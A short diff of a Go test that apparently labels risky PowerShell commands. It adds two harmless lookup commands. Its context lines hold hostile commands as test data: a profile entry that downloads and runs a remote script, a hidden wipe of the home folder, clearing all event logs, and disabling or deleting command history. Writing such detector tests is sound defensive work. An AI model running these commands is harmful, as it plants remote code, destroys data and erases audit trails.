@@ -157,6 +157,8 @@ func TestWindowsToolsByKind(t *testing.T) {
 		{"Add-Content -Path $PROFILE.CurrentUserAllHosts -Value 'iwr http://198.51.100.3/b.ps1 | iex'", "persist.rc-payload"},
 		{"Start-Process -FilePath cmd.exe -ArgumentList \"/c rd /s /q `\"$HOME`\"\" -WindowStyle Hidden", "fs.rm-critical"},
 		{"Get-WinEvent -ListLog * | % { [Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }", "hist.logs"},
+		{"Get-Command Format-Volume, Clear-Disk | Format-Table Name, Source", ""},
+		{"Get-Help Clear-Disk -Full", ""},
 		{`Clear-History`, ""}, // the session's list only: the saved history file stays
 		{`Set-PSReadLineOption -HistorySaveStyle SaveNothing`, "hist.disable"},
 		{`Remove-Item (Get-PSReadLineOption).HistorySavePath`, "hist.history-file"},
